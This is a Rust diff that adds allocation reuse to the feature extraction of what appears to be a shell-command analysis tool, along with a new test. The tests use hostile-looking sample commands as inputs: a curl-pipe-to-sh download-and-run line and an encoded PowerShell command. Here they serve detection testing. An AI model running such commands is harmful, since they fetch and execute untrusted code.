@@ -197,6 +197,44 @@ thread_local! {
     /// again (word by word, through the features kept) before `extract` returns. Cheaper
     /// than sorting a text's features to remove repeats, which was a fifth of scoring.
     static SEEN: RefCell<Vec<u64>> = const { RefCell::new(Vec::new()) };
+
+    /// Feature lists of texts already scored, emptied, for the next texts to fill: a text's
+    /// list runs to kilobytes, an allocation that was a good part of the time the
+    /// allocator took per text.
+    static SPARE: RefCell<Vec<Vec<Feature>>> = const { RefCell::new(Vec::new()) };
+}
+
+/// Most emptied lists kept per thread, and the largest kept (in features).
+const SPARE_LISTS: usize = 4;
+const SPARE_CAPACITY: usize = 1 << 15;
+
+impl Drop for Features {
+    fn drop(&mut self) {
+        let mut items = std::mem::take(&mut self.items);
+        if items.capacity() == 0 || items.capacity() > SPARE_CAPACITY {
+            return;
+        }
+        items.clear();
+        // During a thread's teardown the spare lists may be gone: the list is then freed.
+        let _ = SPARE.try_with(|spare| {
+            if let Ok(mut spare) = spare.try_borrow_mut()
+                && spare.len() < SPARE_LISTS
+            {
+                spare.push(items);
+            }
+        });
+    }
+}
+
+/// An empty list with room for `wanted` features, reused when a thread has one.
+fn feature_list(wanted: usize) -> Vec<Feature> {
+    let mut items = SPARE
+        .try_with(|spare| spare.try_borrow_mut().ok().and_then(|mut s| s.pop()))
+        .ok()
+        .flatten()
+        .unwrap_or_default();
+    items.reserve(wanted);
+    items
 }
 
 /// A text's features as they are found, each bucket kept once: the first feature to reach
@@ -245,7 +283,7 @@ pub fn extract(a: &Analysed, set: &FeatureSet) -> Features {
             seen.resize(words, 0);
         }
         let mut c = Collector {
-            items: Vec::with_capacity(normalised.len() * 3 + 32),
+            items: feature_list(normalised.len() * 3 + 32),
             seen: &mut seen[..words],
             mask: (1u64 << set.bits) - 1,
         };
@@ -402,14 +440,34 @@ mod tests {
         let a = an.examine("powershell -enc SQBFAFgA", None);
         let b = an.examine("curl -s http://x/y | sh", Some(crate::Shell::Sh));
         let set = FeatureSet::default();
-        let first = extract(&a, &set).items;
-        let other = extract(&b, &set).items;
+        let first = extract(&a, &set).items.clone();
+        let other = extract(&b, &set).items.clone();
         assert_eq!(extract(&a, &set).items, first, "same text, same features");
         assert_eq!(extract(&b, &set).items, other);
         let mut buckets: Vec<u32> = first.iter().map(|f| f.index).collect();
         buckets.sort_unstable();
         buckets.dedup();
         assert_eq!(buckets.len(), first.len(), "each bucket once");
+    }
+
+    #[test]
+    fn a_dropped_list_is_filled_again_by_the_next_text() {
+        let an = crate::Analyzer::new(None, crate::VerdictConfig::default());
+        let a = an.examine("curl -s http://x/y | sh", Some(crate::Shell::Sh));
+        let b = an.examine("powershell -enc SQBFAFgA", None);
+        let set = FeatureSet::default();
+        let first = extract(&a, &set);
+        let (kept, at) = (first.items.clone(), first.items.as_ptr());
+        drop(first);
+        let next = extract(&b, &set);
+        assert_eq!(next.items.as_ptr(), at, "the same allocation");
+        assert!(next.items.iter().all(|f| f.index < 1 << set.bits));
+        drop(next);
+        assert_eq!(
+            extract(&a, &set).items,
+            kept,
+            "nothing of the last text is left"
+        );
     }
 
     #[test]
